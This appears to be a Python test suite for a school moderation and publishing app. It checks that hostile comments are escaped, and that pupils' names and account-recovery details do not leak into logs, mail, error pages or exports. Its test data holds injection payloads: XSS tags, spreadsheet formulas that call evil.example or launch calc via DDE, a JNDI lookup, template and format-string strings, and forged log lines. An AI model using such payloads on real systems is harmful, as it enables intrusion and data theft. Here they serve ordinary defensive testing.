"""What strangers write: shown as text to those who decide, and nowhere else, however hostile it is."""
import html
import pathlib
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))

from journey import JourneyCase  # noqa: E402
from stage import Failed  # noqa: E402

RUDE = "you useless idiots at the school, the lot of you"
HOSTILE = {
    "markup": "<img src=x onerror=\"alert(1)\"><script>alert('thistledown')</script> " + RUDE,
    "entity": "&lt;b&gt; &#60;script&#62; " + RUDE,
    "right_to_left": "\u202egnihton si siht\u202c \u2067and this\u2069 " + RUDE,
    "formula": "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"thistledown fair\") " + RUDE,
    "plus": "+44 7700 900123 call this number " + RUDE,
    "minus": "-2+3+cmd|' /C calc'!A0 " + RUDE,
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 " + RUDE,
    "zalgo": "t\u0337\u0321\u033b\u0315h\u0336\u0300\u0301\u0302e\u0335\u0303\u0304 fair " + RUDE,
    "nul": "before the\u0000nothing after " + RUDE,
    "line_break": "first\r\n2026-11-20T09:15:00.000Z error forged: line\u2028third " + RUDE,
    "braces": "{{7*7}} ${jndi:ldap://evil.example/x} %s%n %00 " + RUDE,
    "long": RUDE + " " + "thistledown " * 5000,
}
AUTHOR = "<b onmouseover=alert(2)>Perpetua Hedgerow</b>"
PUPIL = "Barnaby Thistlewood"


class Content(JourneyCase):
    SETTINGS = {"log__level": "debug"}

    def find(self, visitor, names):
        """name -> page of the item with that text."""
        found, pages = {}, {}

        def look():
            for item in visitor.get("/review").items():
                if item not in pages:
                    pages[item] = visitor.get(f"/items/{item}")
            for name in names:
                # Where the item's own text begins: a reason on any page may quote the same words.
                start = '<div class="gh-text"><bdi class="gh-foreign">' + HOSTILE[name].replace("\0", "")[:12]
                found.update({name: page for page in pages.values() if start in html.unescape(page.unmarked)})
            return len(found) == len(names)
        try:
            self.until(look, "every text is on the list")
        except Failed:
            self.fail(f"not on the list: {sorted(set(names) - set(found))}")
        return found

    def export(self):
        for kind in ("csv", "jsonl"):
            self.stage.run("export", "--from", "2020-01-01", "--to", "2099-12-31", "--format", kind, "--output",
                           str(self.stage.directory / f"export.{kind}"))

    def test_hostile_text_is_shown_as_text_and_comes_out_nowhere_else(self):
        for text in HOSTILE.values():
            self.comment(text, author_name=AUTHOR)
        marsh = self.visitor("marsh")
        pages = self.find(marsh, HOSTILE)
        for name, page in pages.items():
            self.assertNotIn("<script>alert", page.text, name)
            self.assertNotIn("<img src=x", page.text, name)
            self.assertNotIn("<b onmouseover", page.text, name)
            self.assertNotIn("\0", page.text, name)
            self.assertIn(html.escape(AUTHOR, quote=False)[:10], page.text.replace("&quot;", '"'), name)
            item = page.path.rsplit("/", 1)[1]
            left = marsh.press(page, f"/items/{item}/decide", verb="hide")
            self.assertEqual(left.status, 303, name)
        self.assertIn("\u202e", pages["right_to_left"].text)
        outside = pages["right_to_left"].text.split('<bdi class="gh-foreign">')
        self.assertNotIn("\u202e", "".join([outside[0]] + [part.split("</bdi>", 1)[1] for part in outside[1:]]))
        self.assertIn("thistledown " * 4900, pages["long"].unmarked)
        self.sealed("action.done", len(HOSTILE))
        self.export()

    def test_names_and_words_come_out_in_no_address_error_page_mail_or_log(self):
        self.planted.name(PUPIL, "a pupil's name")
        words = f"Bringing a knife to pick up at 3.15 today and {PUPIL} will be sorry"
        self.comment(words, author_name="Perpetua Hedgerow")
        self.until(self.stage.mails, "an alert was mailed")
        marsh = self.visitor("marsh")
        item = self.item(marsh, PUPIL)
        for path in (f"/items/{item}x", "/items/", f"/items/{item}/nothing", "/alerts/" + "z" * 26, "/nowhere"):
            self.assertEqual(marsh.get(path).status, 404)
        self.assertEqual(marsh.ask("PUT", f"/items/{item}").status, 405)
        stale = marsh.send(f"/items/{item}/decide", {"csrf": "0", "verb": "hide", "version": "1"})
        self.assertEqual(stale.status, 403)
        marsh.press(marsh.get(f"/items/{item}"), f"/items/{item}/decide", verb="delete")
        okafor = self.visitor("okafor")
        okafor.press(okafor.get(f"/items/{item}"), f"/items/{item}/agree")
        self.sealed("action.done", 2)
        self.stage.control("fault", {"name": "error", "message": words, "times": 3})
        failures = self.metric("gatehouse_ingest_requests_total")
        self.until(lambda: self.metric("gatehouse_ingest_requests_total") > failures + 3 or
                   not any(fault["times"] > fault["fired"] for fault in self.stage.control("faults")), "it was refused")
        self.export()
        self.assertEqual(self.visitor("quill").get(f"/items/{item}").status, 200)


class PicturesOfPosts(JourneyCase):
    PEOPLE = (*JourneyCase.PEOPLE, "hale")
    PICTURE = pathlib.Path(__file__).resolve().parents[1] / "data/pictures/gps_orient6.jpg"

    def bring(self, visitor, page, path, name):
        """Sends the form with the picture in it, under this name."""
        def part(head, data):
            return b"--form7\r\nContent-Disposition: form-data; " + head.encode() + b"\r\n\r\n" + data + b"\r\n"
        body = b"".join(part(f'name="{key}"', value.encode()) for key, value in page.form(path).items())
        body += part(f'name="picture"; filename="{name}"', self.PICTURE.read_bytes()) + b"--form7--\r\n"
        return visitor.ask("POST", path, body, {"Content-Type": "multipart/form-data; boundary=form7"})

    def test_what_is_said_of_a_picture_comes_out_nowhere_but_where_it_is_published(self):
        words = "The silver birches by the pond have lost all their leaves"
        description = "Twelve golden leaves floating beside a wooden jetty"
        for value in (PUPIL, words, description):
            self.planted.name(value, "what a post says or shows")
        finch, hale = self.visitor("finch"), self.visitor("hale")
        written = finch.press(finch.get("/posts/new"), "/posts/new", text=words, kind="news",
                              **{f"channel.{self.channel}": "yes"})
        post = written.location.split("?")[0]
        added = self.bring(finch, finch.get(post), f"{post}/pictures", f"{PUPIL}.jpg")
        self.assertEqual(added.status, 303)
        self.assertIn("said where the picture was taken", finch.get(post).text)
        said = {"alt-1": description, "people-1": "nobody"}
        self.assertEqual(finch.press(finch.get(post), f"{post}/describe", **said).status, 303)
        self.until(lambda: "still being read" not in finch.get(post).text, "the words in the picture are read")
        self.assertEqual(finch.press(finch.get(post), f"{post}/submit").status, 303)
        self.assertEqual(hale.press(hale.get(post), f"{post}/agree").status, 303)
        self.sealed("post.published")
        shown = [one for one in self.stage.control("state")["posts"].values() if one["message"] == words]
        self.assertEqual([len(one["photos"]) for one in shown], [1])
        self.stage.run("export", "--from", "2020-01-01", "--to", "2099-12-31", "--format", "jsonl", "--output",
                       str(self.stage.directory / "export.jsonl"))


class EmergencyAccess(JourneyCase):
    PEOPLE = (*JourneyCase.PEOPLE, "byte", "patel")

    def test_the_way_into_an_account_comes_out_nowhere_but_on_its_page(self):
        details = {"account": "office-of-bramblecote@example.test", "registered_to": "Ms Wren of the front office",
                   "registered_email": "wren-of-the-office@bramblecote.example", "recovery_phone": "01632 960 187",
                   "recovery_email": "clerk-of-governors@bramblecote.example",
                   "second_step": "Silver key on the caretaker's ring", "recovery_codes": "Brown envelope in the safe"}
        reason = "Ms Wren is away and the page shows a stranger's number"
        for value in (*details.values(), reason):
            self.planted.name(value, "a detail of an account")
        base = f"/channels/{self.channel}/emergency"
        byte, patel = self.visitor("byte"), self.visitor("patel")
        form = byte.get(base + "-details")
        kept = byte.press(form, base + "-details", custodian1="quill", custodian2="patel", **details)
        self.assertEqual(kept.status, 303)
        self.assertEqual(patel.press(patel.get(base), base, reason=reason).status, 303)
        shown = patel.get(base)
        for value in (*details.values(), reason):
            self.assertIn(html.escape(value, quote=False), shown.text.replace("&#39;", "'"))
        self.until(lambda: len(self.stage.mails()) >= 2, "the head and the safeguarding lead are told")
        self.sealed("channel.account_details_opened")
        self.stage.run("export", "--from", "2020-01-01", "--to", "2099-12-31", "--format", "jsonl", "--output",
                       str(self.stage.directory / "export.jsonl"))


if __name__ == "__main__":
    unittest.main()
